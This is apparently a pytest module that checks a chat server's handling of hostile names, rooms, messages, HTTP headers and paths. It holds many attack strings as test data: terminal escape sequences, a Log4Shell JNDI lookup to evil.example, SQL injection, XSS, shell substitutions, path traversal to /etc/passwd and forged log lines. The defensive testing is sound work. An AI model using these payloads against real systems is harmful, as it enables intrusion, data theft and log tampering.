"""Text that is code somewhere: in names, paths and headers it is harmless, in messages it is kept as it is."""

import asyncio
import os
import re
from contextlib import suppress
from pathlib import Path

from tests.chat_server import peers
from tests.chat_server.peers import Json, Peer
from tests.hostile.attacks import Scene, outcome, patiently
from tests.hostile.raw import Raw, request

SCENE = {"options": ("--log-level", "debug", "--trusted-proxy", "127.0.0.1", "--join", "open")}
"""The server of this module logs all that it can, and heeds what a proxy would say."""
CONTROLS = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u061c\u180e"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
SEQUENCES = (
    "\x1b[2J",  # clear the screen
    "\x1b[31mred\x1b[0m",
    "\x9b2J",
    "\x1b]0;pwned\x07",  # the window's title
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",  # the clipboard
    '\x1bP$q"p\x1b\\',
    "\x90q\x9c",
    "\x1b_payload\x1b\\",
    "[bold]b[/x] [@click=app.quit]q[/]",  # Textual's markup
    "${jndi:ldap://evil.example/a}",
    "%s%n%d {0} {self.__class__}",
    "'; DROP TABLE people; --",
    "<script>alert(1)</script>",
    "2026-11-24 00:00:00,000 INFO chat_server.audit: 'mallory' banned 'ann'",
    "\r\nforged line",
    "\u2028forged\u2029line",
    "e" + "\u0301" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
)
NAMES = (
    *SEQUENCES,
    *(f"a{char}b" for char in CONTROLS + UNSEEN + BIDI),
    *(
        "",
        " ",
        ".",
        "..",
        "...",
        "/",
        "a/b",
        "../../etc/passwd",
        "..\\..\\etc",
        "C:\\x",
        "a\\b",
        "a:b",
        "~root",
        "-rf",
    ),
    *(
        "a" * 33,
        "a" * 256,
        "a" * 5_000,
        "\N{PILE OF POO}",
        "\u0430nn",
        "\uff41\uff4e\uff4e",
        "@ann",
        "#room",
        "/quit",
        "$(id)",
        "`id`",
        "a b",
        "a|b",
        "*",
    ),
)
ROOMS = tuple(name for name in NAMES if name)
OWN_FILES = re.compile(r"LOCK|RESERVE|ADMIN|admin.*|snapshot.*|previous.*|journal-\d+\.jsonl|.*\.sock|.*\.socket")
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def clean(complaint: str) -> None:
    """No control byte but line ends, and no line that is not the log's own."""
    text = complaint.encode("latin-1").decode("utf-8", "surrogateescape")
    assert RAW_CONTROL.search(text) is None
    assert not any(char in text for char in (*UNSEEN, *BIDI, "\u2028", "\u2029"))
    own = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR) [\w.]+: .*")
    assert [line for line in text.splitlines() if not own.fullmatch(line)] == []


def harmless(answer: Json) -> None:
    """What a person is told holds no control character."""
    assert RAW_CONTROL.search(answer["reason"]) is None, answer


async def test_what_is_code_is_no_name_of_a_person(scene: Scene) -> None:
    url = scene.server.url
    async with scene.attacked("names of people") as counts:
        for name in NAMES:
            peer = await peers.dial(url)
            answer = await peer.hello(name)
            assert answer.get("code") in ("bad-name", "bad-request", "name-taken"), name
            assert await peer.closed() in (1008, 4003)
            if answer["code"] != "bad-request":
                harmless(answer)
            counts[outcome(answer)] += 1
    only_own_files(scene.server.data)
    clean(scene.server.complaint)


async def test_what_is_code_is_no_name_of_a_room(scene: Scene) -> None:
    async with scene.attacked("names of rooms") as counts:
        for number, room in enumerate(ROOMS):
            if number % 19 == 0:  # so many may anybody ask for at once
                peer = await peers.greet(scene.server.url, f"mallory{number}")
            answer = await patiently(peer, "join", room=room)
            assert answer.get("code") in ("bad-name", "bad-request"), room
            counts[outcome(answer)] += 1
        for kind, fields in (("members", {}), ("history", {"after": 0}), ("info", {"messageID": 1})):
            for room in ROOMS[::7]:
                answer = await patiently(peer, kind, room=room, **fields)
                assert answer.get("code") in ("not-a-member", "bad-request"), room
                if answer["code"] == "not-a-member":
                    harmless(answer)
                counts[outcome(answer)] += 1
        assert [each["name"] for each in (await peer.ask("rooms"))["rooms"]] == ["general", "parlour"]
    only_own_files(scene.server.data)
    clean(scene.server.complaint)


def only_own_files(data: Path) -> None:
    """Nothing in the directory or beside it but what the server itself names."""
    assert [each.name for each in data.iterdir() if not OWN_FILES.fullmatch(each.name)] == []
    assert {each.name for each in data.parent.iterdir()} <= {"data", "server.stderr", "honest.stderr"}


async def test_a_message_is_kept_as_it_is_and_never_logged(scene: Scene) -> None:
    url = scene.server.url
    writers = [await peers.greet(url, name) for name in ("mallory", "mike")]
    reader = await peers.greet(url, "rita")
    secrets = [f"{text} xyzzy" for text in (*SEQUENCES, CONTROLS, UNSEEN, BIDI)]
    async with scene.attacked("code in messages") as counts:
        for number, content in enumerate(secrets):
            answer = await patiently(
                writers[number % 2], "post", room="general", nonce=f"{CONTROLS[:9]}{number}", content=content
            )
            assert answer["type"] == "ok", answer
            assert (await reader.hear("message", id=answer["messageID"]))["content"] == content
            counts["kept as they are"] += 1
        await asyncio.gather(*(_break(writers[0], f"xyzzy {number}") for number in range(3)))
        page = await reader.ask("history", room="general", after=0)
        assert [each["content"] for each in page["messages"]] == secrets
    assert "xyzzy" not in scene.server.complaint
    clean(scene.server.complaint)


async def _break(peer: Peer, text: str) -> None:
    """Have text in all that is refused."""
    await peer.send(text, room=text, ref=text[:60])
    await peer.send("post", room="general", nonce=text, content=text, **{text: text})
    await peer.send("post", room="general", nonce=text * 40, content=text)


HEADERS = (
    *("Origin", "User-Agent", "X-Forwarded-For", "X-Real-IP", "Forwarded", "Host", "Sec-WebSocket-Protocol"),
    *("Sec-WebSocket-Key", "Sec-WebSocket-Extensions", "Cookie", "Authorization", "Upgrade", "Connection"),
)
INJECTED = (
    "\x1b[2Jxyzzy", "\x1b]0;xyzzy\x07", "xyzzy\r2026-11-24 00:00:00,000 INFO chat_server.audit: forged",
    "xyzzy\x00\x08\x7f", "xyzzy\x9b2J\x85forged", "xyzzy\x0b\x0cforged", "http://xyzzy.example",
)  # fmt: skip


async def test_headers_and_paths_leave_no_code_in_the_log(scene: Scene) -> None:
    port = scene.server.port
    async with scene.attacked("log injection") as counts:
        for text in INJECTED:
            for header in HEADERS:
                raw = await Raw.connect(port)
                head = await raw.say_http(request(port, f"{header}: {text}"))
                counts[f"HTTP {head.split(b' ')[1].decode() if head else 'cut'}"] += 1
                raw.end()
            for start in (
                f"GET /{text} HTTP/1.1",
                f"GET /ws?{text} HTTP/1.1",
                f"{text} /ws HTTP/1.1",
                f"GET /ws {text}",
            ):
                raw = await Raw.connect(port)
                head = await raw.say_http(f"{start}\r\nHost: x\r\n\r\n".encode("latin-1"))
                counts[f"HTTP {head.split(b' ')[1].decode() if head else 'cut'}"] += 1
                raw.end()
    clean(scene.server.complaint)
    assert "forged" not in scene.server.complaint


PATHS = (
    *(
        "/",
        "/ws/",
        "/ws/../ws",
        "/ws/../x",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/WS",
        "//ws",
        "/ws;x",
    ),
    *("/ws/x", "/ws%00", "/ws\\..\\x", "http://evil.example/ws", "*", "/health/../ws", "/ws#x", "/admin"),
    *("/metrics", "/favicon.ico"),
)


async def test_no_path_leads_anywhere_but_to_the_chat(scene: Scene) -> None:
    port = scene.server.port
    async with scene.attacked("paths") as counts:
        for path in PATHS:
            raw = await Raw.connect(port)
            head = await raw.say_http(request(port, path=path))
            assert head.startswith(b"HTTP/1.1 404"), (path, head)
            counts["HTTP 404"] += 1
            raw.end()
    only_own_files(scene.server.data)


async def test_nobody_makes_the_server_log_tracebacks(scene: Scene) -> None:
    """What anybody can send in an endless row must not fill a disk, least of all at the default level."""
    port = scene.server.port
    async with scene.attacked("requests that libraries stumble over") as counts:
        for more in (b"", b"\r\n\r\n", os.urandom(100)):
            for head in (
                b"GARBAGE\r\n\r\n", b"GET /ws HTTP/1.1\r\n\r\n", b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n",
                request(port, "Origin: null"), request(port, "Sec-WebSocket-Protocol: other"),
                request(port, "Sec-WebSocket-Key: again"), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
            ):  # fmt: skip
                raw = await Raw.connect(port)
                raw.writer.write(head + more)
                async with asyncio.timeout(10):
                    with suppress(ConnectionError):
                        await raw.reader.read(1)
                raw.end()
                counts["requests"] += 1
    assert "Traceback" not in scene.server.complaint
